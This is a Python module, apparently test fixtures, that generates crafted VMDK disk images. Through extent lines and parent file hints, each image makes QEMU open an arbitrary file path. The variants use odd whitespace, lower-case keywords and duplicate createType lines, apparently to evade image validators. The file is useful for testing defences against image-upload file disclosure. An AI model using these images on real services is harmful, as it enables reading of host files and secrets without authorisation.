# SPDX-License-Identifier: Apache-2.0
"""Vmdk images that have QEMU open a file that they name."""

import struct

SECTOR = 512
MIB = 2**20
AT_END = 2**64 - 1

COMMENT = '# createType: monolithicFlat"'
PLAIN_DESCRIPTOR = """# Disk DescriptorFile
version=1
CID=fffffffe
parentCID=ffffffff
createType="monolithicSparse"
# Extent description
RW 2048 SPARSE "image.vmdk"
# The Disk Data Base
ddb.virtualHWVersion = "4"
ddb.adapterType = "ide"
"""


def sparse(
    descriptor=PLAIN_DESCRIPTOR,
    capacity=2048,
    version=1,
    grain=128,
    entries=512,
    descriptor_sector=1,
    descriptor_sectors=20,
    directory=21,
    size_bytes=MIB,
):
    """A sparse extent with an embedded descriptor, and no data."""
    header = struct.pack(
        '<4sIIQQQQIQQQ', b'KDMV', version, 3, capacity, grain,
        descriptor_sector, descriptor_sectors, entries, 0, directory, 128,
    )  # fmt: skip
    content = bytearray(size_bytes)
    content[: len(header)] = header
    text = descriptor.encode('latin-1')
    start = descriptor_sector * SECTOR
    content[start : start + len(text)] = text
    return bytes(content)


def descriptor(*lines, create_type='monolithicSparse', comment=COMMENT):
    """As of the attack: QEMU takes the first createType that it finds."""
    return '\n'.join(
        (
            '# Disk DescriptorFile',
            *([comment] if comment else []),
            'version=1',
            'CID=fffffffe',
            'parentCID=ffffffff',
            f'createType="{create_type}"',
            'RW 0 SPARSE "x"',
            *lines,
            '',
        )
    )


def file_readers(path):
    """Each has QEMU open that path: name of the case, and its content."""
    lines = {
        'tabs': f'RW\t4\tFLAT\t"{path}"\t0\t=',
        'spaces': f'RW   4   FLAT   "{path}"   0   =',
        'broken line': f'RW 4 FLAT\n"{path}" 0',
        'plain line': f'RW 4 FLAT "{path}" 0',
        'access in lower case': f'rw 4 FLAT "{path}" 0',
        'form feed': f'RW\f4\fFLAT\f"{path}"\f0\f=',
    }
    for name, line in lines.items():
        yield (
            f'vmdk of capacity 0, {name}',
            sparse(descriptor(line), capacity=0),
        )
    yield (
        'vmdk of capacity 0, create type in lower case',
        sparse(
            descriptor(lines['tabs'], comment='').replace(
                'createType="mono',
                'createType="monolithicFlat"\ncreatetype="mono',
            ),
            capacity=0,
        ),
    )
    yield (
        'vmdk of capacity 0, comments first',
        sparse(
            '# Disk DescriptorFile\n'
            + '# -\n' * 99
            + descriptor(lines['tabs']),
            capacity=0,
        ),
    )
    yield (
        'vmdk of text alone',
        descriptor(
            lines['plain line'], create_type='monolithicFlat', comment=''
        )
        .replace('RW 0 SPARSE "x"\n', '')
        .encode()
        .ljust(MIB, b'\0'),
    )
    yield (
        'vmdk of capacity 0 whose descriptor is elsewhere',
        sparse(descriptor(lines['tabs']), capacity=0, descriptor_sector=40),
    )
    yield (
        'vmdk with a parent',
        sparse(
            PLAIN_DESCRIPTOR.replace('parentCID=ffffffff', 'parentCID=0')
            + f'parentFileNameHint="{path}"\n'
        ),
    )
    yield (
        'vmdk with a parent beside its descriptor',
        sparse(descriptor_sectors=2)[: 4 * SECTOR]
        + f'parentFileNameHint="{path}"\n'.encode().ljust(MIB, b'\0'),
    )
